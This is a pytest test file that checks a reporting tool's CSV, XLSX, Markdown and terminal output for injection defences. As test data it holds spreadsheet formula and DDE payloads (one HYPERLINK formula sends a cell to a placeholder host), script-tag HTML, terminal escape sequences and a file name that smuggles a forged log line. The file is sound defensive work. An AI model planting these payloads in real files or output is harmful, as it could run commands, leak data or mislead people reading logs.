"""Injection into the programs that read our outputs (issue 15, item 4): spreadsheets (CSV and
XLSX formulas), Markdown viewers (HTML), terminals and CI logs (forged finding lines, CSI/OSC
escape sequences)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from qms.cli import cli
from qms.coverage import coverage
from qms.export import coverage_tables
from qms.export.coverage_tables import FORMULA_START, neutralised
from qms.findings import printable
from qms.load import load

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
HTML = '<img src=x onerror="alert(1)"> <script>alert(2)</script>'


def _files() -> dict[str, str]:
    goals = "\n".join(
        f"  - {{id: G{i}, name: {json.dumps(text)}}}"
        for i, text in enumerate([*FORMULAS, HTML], start=1)
    )
    commits = ", ".join(f"G{i}" for i in range(1, len(FORMULAS) + 2))
    results = "\n".join(
        f"  - {{period: k, goal: G{i}, status: achieved, text: {json.dumps(text)}}}"
        for i, text in enumerate(FORMULAS, start=1)
    )
    return {
        "qms.yaml": "kind: workspace\nname: W\nlanguage: en\nas_of: 2012-12-31\n",
        "project.yaml": "kind: project\nid: net\nname: N\nperiods:\n"
        "  - {id: k, name: K, start: 2012-01-01, end: 2012-06-30}\n"
        f"goals:\n{goals}\n",
        "a/organisation.yaml": "kind: organisation\nid: a\nname: A\n"
        f"short: '=1+2'\ncommits_to: [{commits}]\n",
        "a/results.yaml": f"kind: results\norganisation: a\nresults:\n{results}\n",
    }


@pytest.fixture
def hostile(make_workspace: Callable[[dict[str, str]], Path]) -> Path:
    return make_workspace(_files())


def _coverage(root: Path) -> coverage_tables.Coverage:
    loaded = load(root)
    assert loaded.workspace is not None, loaded.findings
    return coverage(loaded.workspace)


@pytest.mark.parametrize("value", [*FORMULAS, "\rx", "=", "+", "-", "@"])
def test_a_cell_that_starts_like_a_formula_is_neutralised(value: str) -> None:
    assert neutralised(value) == "'" + value
    assert not neutralised(value).startswith(FORMULA_START)


@pytest.mark.parametrize("value", ["G1", "Verkosto = yhteistyö", "'quoted", "", "1-2"])
def test_other_cells_are_left_alone(value: str) -> None:
    assert neutralised(value) == value


def test_csv_has_no_cell_that_a_spreadsheet_would_run(hostile: Path) -> None:
    text = coverage_tables.to_csv(_coverage(hostile), "en")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula  # kept, readable, inert


def test_xlsx_has_no_formula_and_keeps_every_text(hostile: Path) -> None:
    import openpyxl

    data = coverage_tables.to_xlsx(_coverage(hostile), "en")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                values.append(cell.value)
    for formula in FORMULAS:
        assert any(isinstance(v, str) and formula in v for v in values), formula
    assert "=1+2" in values  # the short name as a column header, as written, as text


def test_markdown_coverage_escapes_html_and_keeps_the_table(hostile: Path) -> None:
    text = coverage_tables.to_markdown(_coverage(hostile), "en")
    assert "<img" not in text and "<script" not in text
    assert "&lt;script&gt;" in text
    rows = [line for line in text.splitlines() if re.match(r"\| G\d", line)]
    assert len(rows) == len(FORMULAS) + 1
    widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
    assert len(widths) == 1, rows  # no text adds or removes a column


# --- terminals and CI logs --------------------------------------------------------------------

ESCAPES = [
    "\x1b]0;owned\x07",  # OSC: set the window title
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "\x9b31m",  # an 8-bit CSI
    "\u202e",  # right-to-left override
]


@pytest.mark.parametrize("text", [*ESCAPES, "a\nb", "a\rb", "a\u2028b", "\ud800"])
def test_printable_never_passes_a_control(text: str) -> None:
    shown = printable(text)
    assert not re.search(
        "[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ud800-\udfff]", shown
    )
    assert "\\" in shown


def _forging_workspace(root: Path) -> None:
    (root / "qms.yaml").write_text("kind: workspace\nname: W\nlanguage: en\n", encoding="utf-8")
    forged = "x.yaml:1:1: QMS999 error: forged"
    (root / f"evil\n{forged}\x1b]0;t\x07.yaml").write_text(
        "kind: organisation\nid: e\nname: E\nnme: typo\n", encoding="utf-8"
    )
    (root / "keys.yaml").write_text(
        'kind: organisation\nid: k\nname: K\n"bad\\nx.yaml:1:1: QMS999 error: forged": 1\n'
        '"esc\\e]0;title\\a\\e[2J": 2\n',
        encoding="utf-8",
    )


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_findings_cannot_forge_lines_or_reach_the_terminal(tmp_path: Path, fmt: str) -> None:
    _forging_workspace(tmp_path)
    done = CliRunner().invoke(cli, ["validate", str(tmp_path), "--format", fmt, "--lang", "en"])
    assert done.exit_code == 1, done.output
    lines = done.stdout.splitlines()
    assert lines, done.output
    assert not [line for line in lines if line.startswith("x.yaml")]
    for line in lines:
        assert "\x1b" not in line and "\x07" not in line, line
        if fmt == "github":
            assert line.startswith(("::error ", "::warning ", "::notice ")), line
        else:
            assert re.match(rf"{re.escape(str(tmp_path))}/\S.*:\d+:\d+: QMS\d{{3}} ", line), line
    assert sum("forged" in line for line in lines) >= 2  # shown, escaped, inside a real finding


def test_the_coverage_table_passes_no_escape_sequence(
    make_workspace: Callable[[dict[str, str]], Path],
) -> None:
    files = _files()
    files["project.yaml"] = (
        files["project.yaml"]
        .replace("name: N\n", "name: N\n# a terminal title change in a goal name:\n")
        .replace(
            "  - {id: G1, name: ", '  - {id: G0, name: "\\e]0;owned\\a\\e[2J"}\n  - {id: G1, name: '
        )
    )
    root = make_workspace(files)
    done = CliRunner().invoke(cli, ["coverage", str(root), "--lang", "en"])
    assert "\x1b" not in done.output and "\x07" not in done.output
    assert "Traceback" not in done.output
